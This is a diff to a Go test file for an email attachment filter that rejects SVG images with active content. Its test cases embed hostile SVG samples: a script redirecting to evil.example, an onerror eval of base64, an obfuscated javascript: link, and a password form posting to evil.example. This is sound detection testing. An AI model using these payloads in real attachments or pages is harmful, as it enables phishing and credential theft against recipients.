@@ -106,7 +106,7 @@ func attached(name string, data []byte) string {
 }
 
 func defaults() *Check {
-	return &Check{Extensions: DefaultExtensions, Types: DefaultTypes, Executables: true, InsideArchives: true,
+	return &Check{Extensions: DefaultExtensions, Types: DefaultTypes, Executables: true, InsideArchives: true, ActiveSVG: true,
 		Reply: "Message rejected: attachment {name} is a file type not accepted here (ref {ref})"}
 }
 
@@ -139,6 +139,12 @@ func TestFind(t *testing.T) {
 		"--o\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n" +
 		attached("update.scr", []byte("x")) + "\r\n--o--\r\n"
 
+	svg := func(body string) []byte {
+		return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">` + body + `</svg>`)
+	}
+	drawing := svg(`<defs><style>.a{fill:#f00}</style></defs><!-- <script> in a comment --><rect class="a" width="10" height="10"/>` +
+		`<a href="https://example.com/"><text x="1" y="8">on=off</text></a><foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">label</div></foreignObject>`)
+
 	tests := []struct {
 		name  string
 		check func(*Check)
@@ -146,6 +152,26 @@ func TestFind(t *testing.T) {
 		want  string // Finding.String(), "" for none
 	}{
 		{"plain text", nil, "From: a@example.org\r\nSubject: hi\r\n\r\nhello\r\n", ""},
+		{"a drawing", nil, attached("chart.svg", drawing), ""},
+		{"an SVG with script", nil, attached("Invoice.svg", svg(`<script>window.location="https://evil.example/"+atob("eA==")</script>`)),
+			`"Invoice.svg": an SVG image with <script>`},
+		{"script in a namespace of its own", nil, attached("a.svg", svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script>`)),
+			`"a.svg": an SVG image with <script>`},
+		{"an event handler", nil, attached("logo.svg", svg(`<image href="x.png" onerror="eval(atob('eA=='))"/>`)),
+			`"logo.svg": an SVG image with onerror=`},
+		{"an entity-written javascript: link", nil, attached("a.svg", svg(`<a href="&#106;ava&#x09;script:go()"><rect width="9" height="9"/></a>`)),
+			`"a.svg": an SVG image with a javascript: link`},
+		{"a page in a data: link", nil, attached("a.svg", svg(`<a href="data:text/html;base64,PGgxPg=="><rect width="9" height="9"/></a>`)),
+			`"a.svg": an SVG image with a web page in a data: link`},
+		{"a login form in a foreignObject", nil, attached("Secure Message.svg", svg(`<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input type="password"/></form></foreignObject>`)),
+			`"Secure Message.svg": an SVG image with <form>`},
+		{"an SVG by its type, with no name", nil, withPart("Content-Type: image/svg+xml\r\n", svg(`<script>x()</script>`)),
+			`"": an SVG image with <script>`},
+		{"an SVG by its content, under another name", nil, attached("scan.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>`)),
+			`"scan.png": an SVG image with <script>`},
+		{"a broken SVG whose script a browser may still read", nil, attached("a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><!-- a -- b --><SCRIPT>x()</SCRIPT></svg>`)),
+			`"a.svg": an SVG image with <script>`},
+		{"active SVG off", func(c *Check) { c.ActiveSVG = false }, attached("Invoice.svg", svg(`<script>x()</script>`)), ""},
 		{"a PDF", nil, attached("invoice.pdf", pdf), ""},
 		{"a program by its name", nil, attached("invoice.exe", pdf), `"invoice.exe": extension .exe`},
 		{"upper case", nil, attached("INVOICE.PDF.JS", pdf), `"INVOICE.PDF.JS": extension .js`},
